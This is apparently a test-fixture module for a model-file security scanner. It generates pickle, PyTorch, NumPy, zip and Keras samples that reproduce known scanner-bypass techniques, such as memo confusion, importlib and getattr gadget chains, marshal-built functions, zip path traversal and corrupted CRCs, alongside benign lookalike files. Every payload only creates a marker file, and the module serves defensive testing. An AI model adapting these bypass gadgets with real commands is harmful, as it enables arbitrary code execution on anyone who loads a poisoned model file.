"""Malicious and benign model files for the scanner's tests and benchmark, built on the spot.

Every malicious payload is harmless: when loaded it only creates the marker file it is
given (``touch MARKER`` or ``open(MARKER, "w")``).  Each sample names the bypass family it
reproduces (picklescan#14, modelscan#85, ...), the loader that would run it, and whether
it is live (the payload really runs under that loader on this machine) so the benchmark
can prove the corpus is real with ``--verify-live``.

Nothing here is imported by the keishiki package.
"""

from __future__ import annotations

import io
import os
import pickle
import struct
import zipfile
from dataclasses import dataclass
from pathlib import Path
from typing import Callable

# ---- opcode helpers -----------------------------------------------------------------------


def u(text: str) -> bytes:
    """SHORT_BINUNICODE / BINUNICODE of ``text``."""
    b = text.encode("utf-8")
    return (b"\x8c" + bytes([len(b)]) + b) if len(b) < 256 else b"X" + struct.pack("<I", len(b)) + b


def sbytes(data: bytes) -> bytes:
    """SHORT_BINBYTES / BINBYTES."""
    return (b"C" + bytes([len(data)]) + data) if len(data) < 256 else \
        b"B" + struct.pack("<I", len(data)) + data


def sg(module: str, name: str) -> bytes:
    """STACK_GLOBAL module.name."""
    return u(module) + u(name) + b"\x93"


def g0(module: str, name: str) -> bytes:
    """Protocol-0 GLOBAL."""
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def s0(text: str) -> bytes:
    """Protocol-0 STRING (Python 2 str)."""
    return b"S" + repr(text).encode() + b"\n"


def call(fn: bytes, *args: bytes) -> bytes:
    """fn(*args) with MARK ... TUPLE REDUCE."""
    return fn + b"(" + b"".join(args) + b"tR"


P4 = b"\x80\x04"
STOP = b"."


class Reduce:
    """An object that pickles as ``func(*args)``."""

    def __init__(self, func, args):
        self.func, self.args = func, args

    def __reduce__(self):
        return self.func, self.args


# ---- samples ------------------------------------------------------------------------------


@dataclass
class Sample:
    name: str
    family: str           # the bypass family / issue it reproduces
    path: Path
    loader: str           # pickle | torch | numpy | keras | none (what would run it)
    live: bool = True     # the payload runs under ``loader`` here


def _touch(marker: Path) -> str:
    return f"touch {marker}"


def _pyopen(marker: Path) -> str:
    return f"open({str(marker)!r}, 'w').close()"


def _write(path: Path, data: bytes) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data)
    return path


def _payload_pickles(marker: Path) -> dict[str, tuple[str, bytes, bool]]:
    """name -> (family, pickle bytes, live) for raw pickle payloads."""
    cmd = _touch(marker)
    code = _pyopen(marker)
    out: dict[str, tuple[str, bytes, bool]] = {}
    for proto in range(6):
        out[f"reduce_os_system_p{proto}"] = (
            "plain __reduce__ os.system, protocol %d" % proto,
            pickle.dumps({"weights": [1.0, 2.0], "x": Reduce(os.system, (cmd,))}, protocol=proto),
            True)
    out["py2_builtin_eval"] = ("Python 2 pickle: __builtin__.eval (fix_imports)",
                               call(g0("__builtin__", "eval"), s0(code)) + STOP, True)
    out["py2_builtin_exec_p2"] = ("Python 2 style protocol 2: __builtin__.exec",
                                  b"\x80\x02" + call(g0("__builtin__", "exec"), s0(code)) + STOP,
                                  True)
    out["py2_mapped_stack_global"] = (
        "protocol 2 STACK_GLOBAL of a py2 name (commands -> subprocess by fix_imports)",
        b"\x80\x02" + sg("commands", "getoutput") + u(cmd) + b"\x85R" + STOP, True)
    out["builtins_open_p4"] = ("builtins.open writes a file",
                               P4 + sg("builtins", "open") + u(str(marker)) + u("w")
                               + b"\x86R" + STOP, True)
    # picklescan#14: memo written by BINPUT and MEMOIZE mixed, STACK_GLOBAL from BINGET
    out["memo_mix_binput_memoize"] = (
        "picklescan#14 memo confusion (BINPUT + MEMOIZE)",
        P4 + u("os") + b"q\x00" + b"0" + u("system") + b"q\x01" + b"0"
        + u("torch._utils") + b"\x94" + b"0" + u("_rebuild_tensor_v2") + b"\x94" + b"0"
        + b"h\x00h\x01\x93" + u(cmd) + b"\x85R" + STOP, True)
    # picklescan#22 / PR#23: memo filled out of order with PUT/GET
    out["memo_out_of_order"] = (
        "picklescan#22 memo out of order (PUT 2,3 then 0,1)",
        b"Vos\np2\n0Vsystem\np3\n0Vtorch\np0\n0VLongStorage\np1\n0g2\ng3\n\x93(V"
        + cmd.encode() + b"\ntR.", True)
    # modelscan#85: BUILD sets attributes on numpy.prod, then STACK_GLOBAL of those attributes
    out["modelscan85_build_attrs"] = (
        "modelscan#85 BUILD on a global + dotted GLOBAL + memo STACK_GLOBAL",
        b"\x80\x05" + g0("numpy", "prod") + b"N(Va\nVos\nd\x86b" + b"N(Vb\nVsystem\nd\x86b" + b"0"
        + g0("numpy", "prod.a") + b"p0\n" + g0("numpy", "prod.b") + b"p1\n" + b"00"
        + b"g0\ng1\n\x93V" + cmd.encode() + b"\n\x85R.", True)
    # modelscan#330: numpy.__builtins__ through BUILD/STACK_GLOBAL, then eval
    out["modelscan330_numpy_builtins"] = (
        "modelscan#330 numpy.__builtins__ + eval via REDUCE on a call result",
        P4 + sg("numpy", "size") + b"\x94\x94" + sg("numpy", "__builtins__") + b"\x94\x94"
        + b"h\x01}}" + u("shape") + b"h\x03s\x86b" + b"h\x01h\x01" + u("eval") + b"\x86R"
        + u(f"__import__('os').system({cmd!r})") + b"\x85R" + STOP, False)
    # modelscan#331: importlib.import_module + builtins.getattr chain
    out["modelscan331_importlib_getattr"] = (
        "modelscan#331 importlib.import_module + getattr chain",
        P4 + sg("builtins", "getattr") + b"\x94" + sg("importlib", "import_module") + u("os")
        + b"\x85R" + u("system") + b"\x86R" + u(cmd) + b"\x85R" + STOP, True)
    inner = pickle.dumps(Reduce(os.system, (cmd,)), protocol=2)
    out["modelscan267_nested_pickle_loads"] = (
        "modelscan#267 nested pickle.loads",
        P4 + sg("pickle", "loads") + sbytes(inner) + b"\x85R" + STOP, True)
    out["pr74_importlib"] = ("picklescan PR#74 importlib bypass",
                             P4 + sg("builtins", "getattr") + sg("importlib", "import_module")
                             + u("os") + b"\x85R" + u("system") + b"\x86R" + u(cmd) + b"\x85R"
                             + STOP, True)
    import marshal
    blob = marshal.dumps(compile(code, "<p>", "exec"))
    out["pr74_marshal_functiontype"] = (
        "picklescan PR#74 marshal.loads + types.FunctionType",
        P4 + sg("types", "FunctionType") + sg("marshal", "loads") + sbytes(blob) + b"\x85R"
        + b"}\x86R)R" + STOP, True)
    out["pip_main"] = ("pip.main (pip list, writing its log to the marker)",
                       P4 + sg("pip", "main") + b"](" + u("--log") + u(str(marker))
                       + u("list") + b"e\x85R" + STOP, True)
    out["numpy_runstring"] = ("numpy.testing._private.utils.runstring",
                              P4 + sg("numpy.testing._private.utils", "runstring") + u(code)
                              + b"}\x86R" + STOP, True)
    out["copyreg_reconstructor_popen"] = (
        "copyreg._reconstructor with subprocess.Popen as class and base",
        P4 + sg("copyreg", "_reconstructor") + sg("subprocess", "Popen") + sg("subprocess", "Popen")
        + b"](" + u("touch") + u(str(marker)) + b"e\x87R" + STOP, True)
    out["ext1_registry"] = ("EXT1 opcode (copyreg extension registry)",
                            P4 + b"\x82\x01" + u(cmd) + b"\x85R" + STOP, False)
    out["newobj_ex_popen"] = ("NEWOBJ_EX of subprocess.Popen",
                              P4 + sg("subprocess", "Popen") + b"](" + u("touch") + u(str(marker))
                              + b"e\x85}\x92" + STOP, False)
    out["inst_p0_subprocess_call"] = (
        "INST protocol 0 (subprocess.call)",
        b"((lp0\n" + s0("touch") + b"a" + s0(str(marker)) + b"a" + b"isubprocess\ncall\n" + STOP,
        True)
    out["obj_p1_os_system"] = ("OBJ protocol 1 (os.system)",
                               b"(" + g0("os", "system") + s0(cmd) + b"o" + STOP, True)
    out["getattr_import_chain"] = (
        "builtins.getattr(__import__('os'), 'system')",
        P4 + sg("builtins", "getattr") + sg("builtins", "__import__") + u("os") + b"\x85R"
        + u("system") + b"\x86R" + u(cmd) + b"\x85R" + STOP, True)
    out["operator_methodcaller"] = (
        "operator.methodcaller gadget",
        P4 + sg("operator", "methodcaller") + u("system") + u(cmd) + b"\x86R"
        + sg("importlib", "import_module") + u("os") + b"\x85R" + b"\x85R" + STOP, True)
    out["codecs_rot13_exec"] = (
        "_codecs.decode feeding builtins.exec",
        P4 + sg("builtins", "exec") + sg("_codecs", "decode")
        + u(__import__("codecs").encode(code, "rot13")) + u("rot13") + b"\x86R\x85R" + STOP, True)
    out["functools_partial"] = ("functools.partial wrapper",
                                P4 + sg("functools", "partial") + sg("os", "system") + u(cmd)
                                + b"\x86R)R" + STOP, True)
    out["timeit_timeit"] = ("timeit.timeit (picklescan GHSA): the payload is the setup code",
                            P4 + sg("timeit", "timeit") + u("pass")
                            + u(f"__import__('os').system({cmd!r})") + b"\x86R" + STOP, True)
    out["mailcap_findmatch"] = (
        "mailcap.findmatch runs a 'test' command (modelscan PR#346)",
        P4 + sg("mailcap", "findmatch") + b"}" + u("text/plain") + b"]}(" + u("view") + u("x")
        + u("test") + u(cmd) + b"uas" + u("text/plain") + b"\x86R" + STOP, True)
    out["spawnv_passfds"] = (
        "multiprocessing.util.spawnv_passfds (modelscan#338)",
        P4 + sg("multiprocessing.util", "spawnv_passfds") + sbytes(b"/bin/sh") + u("/bin/sh")
        + u("-c") + u(cmd) + b"\x87" + b")\x87R" + STOP, True)
    out["sqlite3_connect"] = ("sqlite3.connect creates a file",
                              P4 + sg("sqlite3", "connect") + u(str(marker)) + b"\x85R" + STOP,
                              True)
    out["zipfile_write"] = ("zipfile.ZipFile(path, 'w') creates a file",
                            P4 + sg("zipfile", "ZipFile") + u(str(marker)) + u("w") + b"\x86R"
                            + STOP, True)
    out["torch_collect_env_run"] = ("torch.utils.collect_env.run (modelscan#338)",
                                    P4 + sg("torch.utils.collect_env", "run") + u(cmd) + b"\x85R"
                                    + STOP, True)
    out["shutil_copyfile"] = ("shutil.copyfile writes a file",
                              P4 + sg("shutil", "copyfile") + u(os.devnull) + u(str(marker))
                              + b"\x86R" + STOP, True)
    out["dotted_name_walk"] = ("dotted name from an allowlisted module (torch.os.system)",
                               P4 + sg("torch", "os.system") + u(cmd) + b"\x85R" + STOP, True)
    out["unicode_escape_names"] = ("UNICODE with escapes spelling os.system",
                                   b"\x80\x04V\\u006fs\nVs\\u0079stem\n\x93V" + cmd.encode()
                                   + b"\n\x85R.", True)
    out["os_trailing_space"] = ("module name with a trailing space (scanner string match)",
                                P4 + sg("os ", "system") + u(cmd) + b"\x85R" + STOP, False)
    out["fullwidth_unicode_module"] = ("fullwidth Unicode module name",
                                       P4 + sg("\uff4f\uff53", "system") + u(cmd) + b"\x85R"
                                       + STOP, False)
    out["stack_global_from_call"] = (
        "STACK_GLOBAL operands produced by a call (str.join)",
        P4 + sg("builtins", "str") + b"\x94" + u("") + u("join") + b"\x86" + b"0"
        + u("o") + u("s") + b"\x86" + b"0" + u("os") + sg("builtins", "str") + u("system")
        + b"\x85R\x93" + u(cmd) + b"\x85R" + STOP, False)
    benign = pickle.dumps({"epoch": 3, "lr": 0.1}, protocol=2)
    out["benign_then_payload"] = ("benign pickle followed by a payload pickle",
                                  benign + pickle.dumps(Reduce(os.system, (cmd,)), protocol=4),
                                  False)
    evil = P4 + sg("os", "system") + u(cmd) + b"\x85R"
    out["truncated_after_reduce"] = ("truncated right after the dangerous REDUCE (no STOP)",
                                     evil, True)
    out["garbage_after_payload"] = ("payload then an invalid opcode (EDP, picklescan PR#46)",
                                    evil + b"\xff" + STOP, True)
    out["dangerous_then_bad_memo"] = ("payload then BINGET of a missing memo key (modelscan#338)",
                                      evil + b"h\x63" + STOP, True)
    return out


def _torch_save(obj, path: Path, legacy: bool = False) -> Path:
    import torch

    path.parent.mkdir(parents=True, exist_ok=True)
    torch.save(obj, path, _use_new_zipfile_serialization=not legacy)
    return path


def _rezip(src: Path, dst: Path, rename: Callable[[str], str] | None = None,
           extra: dict[str, bytes] | None = None, replace: dict[str, bytes] | None = None) -> Path:
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dst, "w", zipfile.ZIP_STORED) as zout:
        for info in zin.infolist():
            data = zin.read(info.filename)
            for suffix, new in (replace or {}).items():
                if info.filename.endswith(suffix):
                    data = new
            zout.writestr(rename(info.filename) if rename else info.filename, data)
        for name, data in (extra or {}).items():
            zout.writestr(name, data)
    return dst


def _patch_zip(path: Path, member_suffix: str, crc: bool = False, flag: bool = False) -> Path:
    """Corrupt the CRC or set the 'encrypted' flag bit of one member (central + local)."""
    data = bytearray(path.read_bytes())
    with zipfile.ZipFile(io.BytesIO(bytes(data))) as zf:
        info = next(i for i in zf.infolist() if i.filename.endswith(member_suffix))
    pos = 0
    while True:
        pos = data.find(b"PK\x01\x02", pos)
        if pos < 0:
            break
        n = struct.unpack("<H", data[pos + 28:pos + 30])[0]
        if data[pos + 46:pos + 46 + n].decode() == info.filename:
            if crc:
                data[pos + 16:pos + 20] = b"\xde\xad\xbe\xef"
            if flag:
                data[pos + 8] |= 1
        pos += 4
    off = info.header_offset
    if crc:
        data[off + 14:off + 18] = b"\xde\xad\xbe\xef"
    if flag:
        data[off + 6] |= 1
    path.write_bytes(bytes(data))
    return path


def _legacy_parts(path: Path) -> list[bytes]:
    """The five pickles of a legacy torch file and the storage bytes after them."""
    from keishiki.core.pickle_reader import read_pickle

    data = path.read_bytes()
    parts, pos = [], 0
    for _ in range(5):
        rec = read_pickle(data, pos)
        parts.append(data[pos:rec.end])
        pos = rec.end
    parts.append(data[pos:])
    return parts


def malicious(root: Path, marker: Path, with_torch: bool = True) -> list[Sample]:
    """Build every malicious sample under ``root``; loading any live one creates ``marker``."""
    root.mkdir(parents=True, exist_ok=True)
    out: list[Sample] = []
    pickles = _payload_pickles(marker)
    for name, (family, data, live) in pickles.items():
        ext = ".pkl" if not name.startswith("py2") else ".p"
        out.append(Sample(name, family, _write(root / f"{name}{ext}", data), "pickle", live))
    evil = pickles["reduce_os_system_p4"][1]
    # a raw pickle disguised by extension
    out.append(Sample("pickle_as_bin", "payload pickle named pytorch_model.bin",
                      _write(root / "disguised" / "pytorch_model.bin", evil), "pickle"))
    # NumPy: object arrays are pickles
    hdr = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    hdr = hdr + " " * (63 - (10 + len(hdr)) % 64) + "\n"
    npy = b"\x93NUMPY\x01\x00" + struct.pack("<H", len(hdr)) + hdr.encode() + evil
    out.append(Sample("npy_object_payload", "np.load(allow_pickle=True) object array",
                      _write(root / "obj.npy", npy), "numpy"))
    npz = io.BytesIO()
    with zipfile.ZipFile(npz, "w") as zf:
        zf.writestr("arr_0.npy", npy)
    out.append(Sample("npz_object_payload", "npz holding an object .npy",
                      _write(root / "obj.npz", npz.getvalue()), "numpy"))
    # zip tricks without torch
    zbuf = io.BytesIO()
    with zipfile.ZipFile(zbuf, "w") as zf:
        zf.writestr("../../evil.pkl", evil)
    out.append(Sample("zip_dotdot_member", "zip member named ../ (path traversal) with a payload",
                      _write(root / "traversal.zip", zbuf.getvalue()), "none", False))
    inner = io.BytesIO()
    with zipfile.ZipFile(inner, "w") as zf:
        zf.writestr("archive/data.pkl", evil)
    outer = io.BytesIO()
    with zipfile.ZipFile(outer, "w") as zf:
        zf.writestr("model/inner.pt", inner.getvalue())
    out.append(Sample("nested_zip", "payload in a zip inside a zip",
                      _write(root / "nested.zip", outer.getvalue()), "none", False))
    import tarfile
    tbuf = io.BytesIO()
    with tarfile.open(fileobj=tbuf, mode="w") as tf:
        ti = tarfile.TarInfo("pickle")
        ti.size = len(evil)
        tf.addfile(ti, io.BytesIO(evil))
    out.append(Sample("tar_member_payload", "pre-0.4 torch tar layout with a payload member",
                      _write(root / "old.tar.pt", tbuf.getvalue()), "none", False))
    # Keras Lambda layer (serialized bytecode)
    kbuf = io.BytesIO()
    cfg = ('{"class_name": "Sequential", "config": {"layers": [{"class_name": "Lambda", '
           '"config": {"name": "lambda", "function": {"class_name": "__lambda__", "config": '
           '{"code": "4wEAAAAAAAAAAAAAAAEAAAAD"}}}}]}}')
    with zipfile.ZipFile(kbuf, "w") as zf:
        zf.writestr("config.json", cfg)
        zf.writestr("metadata.json", '{"keras_version": "3.15.1"}')
        zf.writestr("model.weights.h5", b"\x89HDF\r\n\x1a\n")
    out.append(Sample("keras_lambda", "Keras v3 .keras with a Lambda layer",
                      _write(root / "lambda.keras", kbuf.getvalue()), "keras", False))
    try:
        import h5py

        hp = root / "lambda.h5"
        with h5py.File(hp, "w") as fh:
            fh.attrs["model_config"] = cfg.replace("Sequential", "Functional")
            fh.attrs["keras_version"] = "2.15.0"
            fh.attrs["backend"] = "tensorflow"
            fh.create_group("model_weights")
        out.append(Sample("keras_h5_lambda", "Keras HDF5 model with a Lambda layer", hp, "keras",
                          False))
    except ImportError:
        pass
    if with_torch:
        out.extend(_torch_samples(root, marker, evil))
    return out


def _torch_samples(root: Path, marker: Path, evil: bytes) -> list[Sample]:
    import torch

    cmd = _touch(marker)
    out: list[Sample] = []
    sd = {"w": torch.arange(6, dtype=torch.float32).reshape(2, 3), "b": torch.zeros(3)}
    obj = dict(sd, hook=Reduce(os.system, (cmd,)))
    z = _torch_save(obj, root / "torch_zip_reduce.pt")
    out.append(Sample("torch_zip_reduce", "torch.save zip checkpoint with a __reduce__ payload",
                      z, "torch"))
    out.append(Sample("torch_zip_renamed_prefix", "zip checkpoint with archive/ renamed",
                      _rezip(z, root / "renamed.pt", lambda n: "weights/" + n.split("/", 1)[1]),
                      "torch"))
    clean = _torch_save(sd, root / "_clean.pt")
    out.append(Sample("torch_zip_extra_member", "payload in a non-data.pkl zip member",
                      _rezip(clean, root / "extra_member.pt",
                             extra={"archive/extra/state.pkl": evil}), "none", False))
    out.append(Sample("torch_zip_bad_crc", "CRC of data.pkl corrupted (CVE-2025-10156)",
                      _patch_zip(_rezip(z, root / "bad_crc.pt"), "data.pkl", crc=True), "torch"))
    out.append(Sample("torch_zip_encrypted_flag", "encrypted flag bit set (GHSA-w8jq-xcqf-f792)",
                      _patch_zip(_rezip(z, root / "flag.pt"), "data.pkl", flag=True), "torch",
                      live=False))  # torch 2.13 refuses it; older readers ignored the flag
    out.append(Sample("torch_zip_dotdot_member", "checkpoint with a ../ member name",
                      _rezip(clean, root / "dotdot.pt", extra={"../../../tmp/x.pkl": evil}),
                      "none", False))
    out.append(Sample("torch_zip_payload_in_storage_name", "payload pickle as data.pkl of an "
                      "odd top folder", _rezip(clean, root / "odd_prefix.pt",
                                               lambda n: "a b c/" + n.split("/", 1)[1],
                                               replace={"/data.pkl": evil}), "torch"))
    leg = _torch_save(obj, root / "torch_legacy_reduce.pt", legacy=True)
    out.append(Sample("torch_legacy_reduce", "legacy checkpoint with a payload in the main pickle",
                      leg, "torch"))
    parts = _legacy_parts(_torch_save(sd, root / "_clean_legacy.pt", legacy=True))
    out.append(Sample("torch_legacy_sysinfo_payload", "legacy checkpoint, payload in sys_info",
                      _write(root / "legacy_sysinfo.pt", b"".join(parts[:2] + [evil]
                                                                   + parts[3:])), "torch"))
    out.append(Sample("torch_legacy_keys_payload", "legacy checkpoint, payload in the storage "
                      "keys pickle", _write(root / "legacy_keys.pt",
                                            b"".join(parts[:4] + [evil] + parts[5:])), "torch"))
    out.append(Sample("torch_magic_then_payload", "torch magic-number pickle then a payload",
                      _write(root / "magic.pt", parts[0] + evil), "torch"))
    out.append(Sample("torch_legacy_trailing_payload", "payload appended after the storages",
                      _write(root / "legacy_trailing.pt", b"".join(parts) + evil), "none", False))
    return out


def benign(root: Path, with_torch: bool = True) -> list[Sample]:
    """Legitimate files that look like the malicious ones (must not be flagged)."""
    import numpy as np

    root.mkdir(parents=True, exist_ok=True)
    out: list[Sample] = []
    arr = np.arange(12, dtype=np.float32).reshape(3, 4)
    for proto in (2, 3, 4, 5):
        out.append(Sample(f"numpy_pickle_p{proto}", "numpy arrays pickled",
                          _write(root / f"np_p{proto}.pkl", pickle.dumps(
                              {"a": arr, "i": np.int64(3), "dt": np.dtype("float16"),
                               "b": arr.astype(np.bool_)}, protocol=proto)), "pickle", False))
    out.append(Sample("plain_dict_p0", "plain data, protocol 0",
                      _write(root / "plain_p0.pkl", pickle.dumps(
                          {"a": [1, 2.5, "x"], "s": {1, 2}, "c": 1j, "b": b"\x00\x01"}, 0)),
                      "pickle", False))
    from collections import OrderedDict
    out.append(Sample("ordered_dict_p2", "OrderedDict of lists",
                      _write(root / "od.pkl", pickle.dumps(OrderedDict(a=[1, 2]), 2)),
                      "pickle", False))
    np.save(root / "arr.npy", arr)
    out.append(Sample("npy", "plain .npy", root / "arr.npy", "numpy", False))
    np.savez(root / "arrs.npz", a=arr, b=arr * 2)
    out.append(Sample("npz", "plain .npz", root / "arrs.npz", "numpy", False))
    if with_torch:
        import torch

        dtypes = [torch.float32, torch.float16, torch.bfloat16, torch.float64, torch.int8,
                  torch.uint8, torch.int16, torch.int32, torch.int64, torch.bool,
                  torch.complex64]
        sd = {f"t_{str(d)[6:]}": torch.ones(2, 3).to(d) for d in dtypes}
        sd["view"] = sd["t_float32"][1]
        sd["param"] = torch.nn.Parameter(torch.ones(2))
        out.append(Sample("torch_zip_all_dtypes", "state_dict, zip, every dtype",
                          _torch_save(sd, root / "sd_zip.pt"), "torch", False))
        out.append(Sample("torch_legacy_all_dtypes", "state_dict, legacy, every dtype",
                          _torch_save(sd, root / "sd_legacy.pt", legacy=True), "torch", False))
        model = torch.nn.Sequential(torch.nn.Linear(4, 3), torch.nn.ReLU(), torch.nn.Linear(3, 2))
        opt = torch.optim.SGD(model.parameters(), lr=0.1, momentum=0.9)
        model(torch.ones(1, 4)).sum().backward()
        opt.step()
        ckpt = {"model": model.state_dict(), "optimizer": opt.state_dict(), "epoch": 3,
                "np": np.arange(3), "size": torch.Size([2, 3]), "dev": torch.device("cpu")}
        out.append(Sample("torch_training_checkpoint", "training checkpoint (optimizer, epoch, "
                          "numpy array)", _torch_save(ckpt, root / "ckpt.pt"), "torch", False))
        out.append(Sample("torch_training_checkpoint_legacy", "training checkpoint, legacy",
                          _torch_save(ckpt, root / "ckpt_legacy.pt", legacy=True), "torch", False))
        from safetensors.torch import save_file
        save_file({"w": torch.ones(2, 2)}, root / "model.safetensors")
        out.append(Sample("safetensors", "safetensors", root / "model.safetensors", "none", False))
    return out
